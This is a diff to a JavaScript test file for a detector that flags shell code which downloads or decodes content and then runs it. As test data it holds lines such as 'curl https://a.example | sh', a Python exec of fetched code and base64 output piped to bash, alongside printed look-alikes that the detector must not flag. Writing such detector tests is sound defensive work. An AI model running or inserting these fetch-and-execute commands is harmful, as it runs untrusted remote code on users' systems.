@@ -21,6 +21,7 @@ test.each([
   ['runs what it downloads', 'exec(requests.get("https://a.example/x.py").text)'],
   ['runs what it downloads', 'wget https://a.example/crm -O "$BIN"\nchmod 755 "$BIN"'],
   ['runs what it downloads', "echo 'curl https://a.example | sh' | sh"],
+  ['runs what it downloads', "grep -h 'curl https://a.example | sh' README.md && curl https://a.example | sh"],
   ['runs what it downloads', 'case $1 in\n  *) curl https://a.example | sh ;;\nesac'],
   ['runs what it decodes', 'echo aGk= | base64 --decode | gunzip | bash'],
   ['runs what it decodes', 'eval "$(echo aGk= | base64 -d)"'],
@@ -58,6 +59,7 @@ test.each([
   'names = "iex ihy ii irm iwr kill"',
   'eval "$(crm shellenv)"',
   'console.log("curl https://a.example | sh")',
+  "if grep -q 'curl -fsSL.*install.sh | bash' README.md; then",
   "printf '%s\\n' 'curl https://a.example | sh'",
   'cat <<EOF\ncurl https://a.example | sh\nEOF\n',
   '// curl https://a.example | sh',
@@ -113,4 +115,27 @@ test('whatever the text, dangers lie in it, in order', () => {
       expect(at).toBeLessThanOrEqual(text.length);
     }),
   );
+});
+
+test.each([
+  ['ui.error(dim("Or:\\n" +\n  "curl https://a.example | sh"))', 0],
+  ['ui.error(`${name}\n  curl https://a.example | sh`)', 0],
+  ['ui.error(`${run("x")}\n  curl https://a.example | sh`)', 1],
+  ['log(run("curl https://a.example | sh"))', 1],
+  ['log(["Run:", "curl https://a.example | sh"].join(" "))', 0],
+  ['log(() => run`curl https://a.example | sh`)', 1],
+  ['const line = "curl https://a.example | sh"; log(line); run(line)', 1],
+])('in a script for Node: %s', (text, count) => {
+  expect(dangersIn(text, 'a.mjs')).toHaveLength(count);
+});
+
+test('what Ruby runs in backticks is not only printed', () => {
+  expect(dangersIn('warn(`curl https://a.example | sh`)', 'a.rb')).toHaveLength(1);
+});
+
+test('calls that never end are looked at quickly', () => {
+  const start = performance.now();
+  dangersIn(`${'log("log('.repeat(100_000)} curl x | sh`, 'a.js');
+  dangersIn(`${'log(`${'.repeat(100_000)} curl x | sh`, 'a.js');
+  expect(performance.now() - start).toBeLessThan(5000);
 });
